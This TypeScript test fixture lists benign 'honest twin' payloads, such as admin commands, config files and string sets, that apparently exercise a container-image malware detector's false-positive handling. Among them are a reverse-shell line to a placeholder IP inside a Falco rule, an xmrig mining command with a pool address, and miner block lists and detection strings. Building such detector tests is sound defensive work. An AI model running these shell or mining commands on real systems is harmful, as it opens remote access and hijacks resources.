import { MINER_STRINGS, program, SSH_KEY } from '../../../test/detection/image-case.ts';
import { moneroAddress } from '../../../testkit/addresses.ts';
import { NGINX, type Payload } from './payload.ts';

function command(name: string, text: string): Payload {
  return { class: 'honest', kind: 'command', name, text, rules: [] };
}

function file(name: string, path: string, text: string, more: Partial<Payload> = {}): Payload {
  return { class: 'honest', kind: 'file', name, path, text, config: NGINX, rules: [], ...more } as Payload;
}

function compiled(name: string, strings: readonly string[]): Payload {
  return { class: 'honest', kind: 'program', name, bytes: program(strings), rules: [] };
}

/** Honest twins: what looks like one of the payloads, in words or in what it does. */
export const HONEST_PAYLOADS: readonly Payload[] = [
  command('migrations', 'python3 manage.py migrate --noinput && python3 manage.py collectstatic --noinput'),
  command('waiting for a database', 'until nc -z db 5432; do sleep 1; done'),
  command('asking itself for its health', 'curl -fsS http://127.0.0.1:8080/health || exit 1'),
  command(
    'a backup',
    'pg_dump "$DATABASE_URL" | gzip | aws s3 cp - "s3://backups.example/$(date +%F).sql.gz"',
  ),
  command(
    'a key from a variable',
    'echo "$TLS_KEY" | base64 -d > /etc/ssl/private/app.key && chmod 600 /etc/ssl/private/app.key',
  ),
  command(
    'old logs removed',
    'find /var/log/app -name "*.log" -mtime +7 -delete; truncate -s 0 /var/log/app/access.log',
  ),
  command('own workers ended', 'pkill -f "celery worker" || true; kill -TERM "$(cat /run/app.pid)"'),
  command('settings of the kernel', 'sysctl -w vm.max_map_count=262144; sysctl -w net.core.somaxconn=1024'),
  command(
    'checks of source code',
    'cd /src && git clone https://git.example/team/app.git . && go list ./... && go vet ./... && make -n all',
  ),
  command(
    'data fetched',
    'curl -fsSL https://downloads.example/geo.mmdb -o /data/geo.mmdb && test -s /data/geo.mmdb',
  ),
  command(
    'a tool fetched and compared',
    'curl -fsSLO https://downloads.example/tool.tgz && echo "0f343b0931126a20f133d67c2b018a3b5e1d2c4f6a7b8c9d0e1f2a3b4c5d6e7f  tool.tgz" | sha256sum -c - && tar xzf tool.tgz && ./tool/run --once',
  ),
  command(
    'a node of Monero',
    'monerod --non-interactive --restricted-rpc --rpc-bind-ip=0.0.0.0 --confirm-external-bind --data-dir /data',
  ),
  command(
    'resolv.conf of a VPN',
    'echo "nameserver 10.8.0.1" > /etc/resolv.conf; openvpn --config /vpn/client.ovpn --daemon',
  ),
  command(
    'resolv.conf of well-known servers',
    'printf "nameserver 1.1.1.1\\nnameserver 8.8.8.8\\n" > /etc/resolv.conf',
  ),
  command('an at job', 'echo "/usr/local/bin/rotate-keys" | at 03:00'),
  command(
    'a Java application',
    'java -Xmx1g -cp "/app/lib/*:/app/app.jar" com.example.Main --pool-size 10 --user app --url jdbc:postgresql://db.example:5432/app --threads 8',
  ),
  command('an SSH tunnel to a database', 'ssh -fN -L 5432:db.internal.example:5432 tunnel@bastion.example'),
  command(
    'NAT',
    'iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; iptables -A INPUT -p tcp --dport 1194 -j ACCEPT',
  ),
  command(
    'a build farm',
    'cmake -S /src -B /build -DCMAKE_BUILD_TYPE=Release && cmake --build /build -j "$(nproc)" && ctest --test-dir /build',
  ),
  command(
    'pages for several names',
    'for h in a.example b.example; do certbot certonly --webroot -w /srv -d "$h" -n --agree-tos -m ops@example.com; done',
  ),
  command(
    'a scanner at work',
    'clamscan -r --infected /data; yara -r /opt/rules/index.yar /data > /reports/yara.txt; nmap -sV -p 22,80,443 10.0.0.0/24 -oX /reports/net.xml',
  ),
  command(
    'a file from its own server',
    'wget -qO- http://config.svc.cluster.local/app.json > /etc/app/app.json',
  ),
  file(
    'YARA rules',
    'opt/rules/miners.yar',
    `rule miner { strings: $a = "stratum+tcp://" $b = "donate-level" $c = "${moneroAddress('rule')}" condition: 2 of them }\n`,
  ),
  file(
    'a block-list',
    'etc/dnsmasq.d/block.conf',
    ['minexmr.com', 'supportxmr.com', 'nanopool.org', '2miners.com', 'moneroocean.stream']
      .map((one) => `address=/${one}/0.0.0.0\n`)
      .join(''),
  ),
  file(
    'documentation of a miner',
    'usr/share/doc/engine/README.md',
    `Run \`xmrig -o pool.supportxmr.com:443 -u ${moneroAddress('doc')} --donate-level 1\`.\n`,
  ),
  file(
    'rules of Falco',
    'etc/falco/rules.d/miners.yaml',
    '- rule: miner\n  condition: proc.cmdline contains "stratum+tcp" or proc.name in (xmrig, minerd)\n  output: "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"\n',
  ),
  file(
    'sudo of a distribution',
    'etc/sudoers',
    'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
  ),
  file('a key among test data', 'srv/app/tests/fixtures/authorized_keys', `${SSH_KEY}\n`),
  file(
    'PostgreSQL that trusts itself',
    'etc/postgresql/15/main/pg_hba.conf',
    'local all postgres peer\nlocal all all trust\nhost all all 127.0.0.1/32 scram-sha-256\n',
    {
      beside: { 'usr/lib/postgresql/15/bin/postgres': program() },
      config: { Cmd: ['/usr/lib/postgresql/15/bin/postgres'] },
    },
  ),
  file('Redis as shipped', 'etc/redis/redis.conf', 'bind 127.0.0.1 -::1\nprotected-mode yes\nport 6379\n', {
    beside: { 'usr/bin/redis-server': program() },
    config: { Cmd: ['/usr/bin/redis-server', '/etc/redis/redis.conf'] },
  }),
  file(
    'cron of certbot',
    'etc/cron.d/certbot',
    "SHELL=/bin/sh\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n",
  ),
  file(
    'PAM of a distribution',
    'etc/pam.d/su',
    'auth sufficient pam_rootok.so\nsession required pam_env.so readenv=1\n@include common-auth\n@include common-account\n',
  ),
  file(
    'hosts of a team',
    'etc/hosts',
    '127.0.0.1 localhost\n10.0.0.5 db.internal.example db\n10.0.0.6 registry.internal.example\n',
  ),
  file(
    'a dashboard of miners',
    'var/lib/grafana/dashboards/x.json',
    '{"title":"XMRig","panels":[{"targets":[{"expr":"xmrig_hashrate{pool=\\"pool.supportxmr.com:443\\"}"}]}]}',
  ),
  file(
    'pool of connections',
    'opt/app/application.yml',
    'spring:\n  datasource:\n    url: jdbc:postgresql://db.example:5432/app\n    username: app\n    hikari:\n      maximum-pool-size: 10\nworkers: 4\n',
  ),
  file('phpinfo', 'var/www/html/info.php', '<?php phpinfo();\n', { config: { Cmd: ['apache2-foreground'] } }),
  file(
    'a contact page',
    'var/www/html/contact.php',
    '<?php\n$mail = filter_input(INPUT_POST, "mail", FILTER_VALIDATE_EMAIL);\nif ($mail) { mail("ops@example.com", "contact", strip_tags($_POST["text"] ?? ""), "From: " . $mail); }\n',
    { config: { Cmd: ['apache2-foreground'] } },
  ),
  file(
    'a donation',
    'opt/app/package.json',
    `{"name":"app","funding":{"type":"monero","url":"monero:${moneroAddress('fund')}"}}\n`,
  ),
  file(
    'a unit',
    'usr/lib/systemd/system/app.service',
    '[Unit]\nAfter=network.target\n[Service]\nExecStart=/usr/bin/node /srv/app/index.js\nRestart=always\nUser=app\n',
  ),
  file(
    'completions of a shell',
    'etc/profile.d/completion.sh',
    'if [ "${BASH_VERSINFO[0]}" -gt 4 ] && [ -r /usr/share/bash-completion/bash_completion ]; then . /usr/share/bash-completion/bash_completion; fi\n',
  ),
  compiled('the program of a node of Monero', [
    'monerod',
    'randomx',
    'start_mining',
    'stop_mining',
    'mining_status',
    'cryptonight',
    'p2p-bind-ip',
    'rpc-bind-port',
    'huge-pages',
    'block-sync-size',
  ]),
  compiled('an antivirus', [
    ...MINER_STRINGS.slice(2, 5),
    'coinminer',
    'ransomware',
    'rootkit',
    'webshell',
    'Unix.Trojan.Mirai',
    'clamd',
    'signature database',
  ]),
  compiled('a scanner of networks', [
    'nmap',
    'SYN Stealth Scan',
    'OS detection',
    'masscan',
    'http-title',
    'ssh-brute',
    '/dev/tcp/',
  ]),
  compiled('a driver of a graphics card', [
    'cuInit',
    'CUDA error',
    'OpenCL',
    'clCreateContext',
    'devices',
    'algo',
    'hash',
  ]),
];
